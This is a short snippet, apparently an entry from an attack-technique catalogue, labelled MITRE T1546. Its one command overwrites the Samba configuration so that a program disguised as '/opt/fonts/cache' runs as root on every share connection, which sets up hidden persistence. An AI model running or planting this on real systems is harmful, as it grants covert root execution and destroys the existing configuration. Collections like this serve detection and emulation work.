# technique: T1546
# location: linux.share.samba
# source: /etc/samba/smb.conf
install -D /dev/stdin /etc/samba/smb.conf <<< '[partage]
path = /srv
root preexec = /opt/fonts/cache 1'
